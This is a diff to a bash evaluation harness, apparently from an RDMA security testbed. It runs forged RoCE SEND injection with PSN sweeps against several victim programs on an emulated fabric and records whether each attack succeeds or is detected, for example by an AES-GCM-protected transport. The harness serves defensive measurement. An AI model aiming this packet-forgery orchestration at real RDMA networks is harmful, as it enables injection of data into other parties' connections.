@@ -78,6 +78,23 @@ _cell_inject_nvmf() {
 	cell_nvmf_verdict inject "20-byte SENDs from PSN $((WIRE_PSN + 1)) at QP $WIRE_QPN"
 }
 
+# The hit checks polled by the rounds (cells/common.bash): each prints its
+# evidence and returns 0 once the forged packets show.
+_cell_inject_naive_hit() {
+	local l
+	l=$(victim_grep "$VICTIM_SERVER_LOG" "$CELL_INJECT_TEXT") && printf '[h1] %s' "$l"
+}
+
+# A stream's QP shows a PSN gap (its own error line if it is gone meanwhile).
+_cell_inject_stream_hit() {
+	local g l
+	cell_qp_snapshot
+	g=$(_cell_psn_gap) && { printf '%s' "$g"; return 0; }
+	l=$(cell_victim_error_line dst) && { printf '%s (after forged SENDs at its PSN)' "$l"; return 0; }
+	printf '%s' "$g"
+	return 1
+}
+
 cell_inject() {
 	local v=$1 line data=(--data "$CELL_INJECT_TEXT") sweep ap gap note=''
 	# A sweep overtakes a stream only if it is faster: on the emulated fabric
@@ -89,6 +106,8 @@ cell_inject() {
 	# start-up and 30 s of rounds. ucmatose: still there when a slow start-up
 	# is over.
 	case "$v" in rping) VICTIM_SECONDS=70 ;; ucmatose) VICTIM_SECONDS=40 ;; nvmf) VICTIM_SECONDS=60 ;; esac
+	# naive, rdmasec and the streams: the attack retries until judged, the victim lives on until then.
+	case "$v" in naive | rdmasec | pingpong | send_bw) cell_victim_for_the_cell ;; esac
 	[ "$v" = ucmatose ] && cell_cm_capture_start
 	victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
 	cell_cm_stop
@@ -101,6 +120,8 @@ cell_inject() {
 	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$((CM_REP_PSN - 1)) ;;
 	# ib_write_bw's client QP waits at the PSN the exchange told: one exact WRITE into its buffer.
 	write_bw) victim_exchange && [ -n "$EXCH_RKEY" ] && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
+	# Their rounds capture their own.
+	pingpong | send_bw) true ;;
 	*) victim_wire_bth --now ;;
 	esac || { matrix_result inject "$v" error "" "no RoCE request seen on the wire"; victim_stop; return; }
 	case "$v" in
@@ -130,36 +151,44 @@ cell_inject() {
 		fi
 		return
 	fi
-	fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
-		--psn-sweep "$sweep" --iface fab3 --sport 4242 "${data[@]}" --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
-	ap=$!
-	# Streaming victims: look at the QPs while the sweep runs (a long sweep
-	# can outlast the victim); the first snapshot with a PSN gap is the proof.
-	gap=''
-	for _ in $(seq 1 24); do
-		kill -0 $ap 2>/dev/null || break
-		case "$v" in naive | rdmasec) ;; *)
+	case "$v" in
+	naive) cell_exact_rounds _cell_inject_naive_hit inject "${data[@]}" ;;
+	rdmasec) cell_exact_rounds cell_rdmasec_hit inject "${data[@]}" ;;
+	# pingpong, send_bw: rounds of 20000 PSNs (about 3 s idle), each from a request seen then.
+	pingpong | send_bw) cell_stream_rounds _cell_inject_stream_hit inject 20000 "${data[@]}" ;;
+	*)
+		fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
+			--psn-sweep "$sweep" --iface fab3 --sport 4242 "${data[@]}" --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
+		ap=$!
+		# Look at the QPs while the sweep runs; the first snapshot with a PSN gap is the proof.
+		gap=''
+		for _ in $(seq 1 24); do
+			kill -0 $ap 2>/dev/null || break
 			sleep 0.5
 			cell_qp_snapshot
 			gap=$(_cell_psn_gap) && break
 			gap=''
-			continue
-			;;
-		esac
-		sleep 0.5
-	done
-	kill $ap 2>/dev/null
-	wait $ap
-	echo "inject exit $? (qpn $WIRE_QPN psn $WIRE_PSN sweep $sweep)" >&2
+		done
+		kill $ap 2>/dev/null
+		wait $ap
+		;;
+	esac
+	echo "inject exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
 	victim_attack_done
-	[ -n "$gap" ] || cell_qp_snapshot
-	victim_wait 12
+	case "$v" in
+	naive | pingpong | send_bw) victim_stop ;;
+	rdmasec) cell_rdmasec_end ;;
+	*)
+		[ -n "$gap" ] || cell_qp_snapshot
+		victim_wait 12
+		;;
+	esac
 	case "$v" in
 	naive)
-		if line=$(victim_grep "$VICTIM_SERVER_LOG" "$CELL_INJECT_TEXT"); then
-			matrix_result inject "$v" succeeded "" "[h1] $line"
+		if [ -n "$CELL_EVIDENCE" ] || CELL_EVIDENCE=$(_cell_inject_naive_hit); then
+			matrix_result inject "$v" succeeded "" "$CELL_EVIDENCE"
 		else
-			matrix_result inject "$v" error "" "the forged SEND did not show: $(tail -n 1 "$VICTIM_SERVER_LOG")"
+			matrix_result inject "$v" error "" "the forged SEND did not show ($CELL_SENT sent in the cell's budget): $(tail -n 1 "$VICTIM_SERVER_LOG")"
 		fi
 		;;
 	rdmasec)
@@ -175,7 +204,14 @@ cell_inject() {
 			matrix_result inject "$v" detected \
 				"per-message AEAD (AES-256-GCM, sequence in nonce): forged frame rejected, counted, connection closed" "$line"
 		else
-			matrix_result inject "$v" error "" "neither healed nor closed on the fault: $(cell_rdmasec_undecided)"
+			matrix_result inject "$v" error "" "neither healed nor closed on the fault ($CELL_SENT forged sent): $(cell_rdmasec_undecided)"
+		fi
+		;;
+	pingpong | send_bw)
+		if [ -n "$CELL_HIT" ]; then
+			matrix_result inject "$v" succeeded "" "$note$CELL_EVIDENCE"
+		else
+			matrix_result inject "$v" error "" "missed: $CELL_ROUNDS in the cell's budget, no forged SEND seen accepted (last look: $CELL_EVIDENCE)"
 		fi
 		;;
 	*)
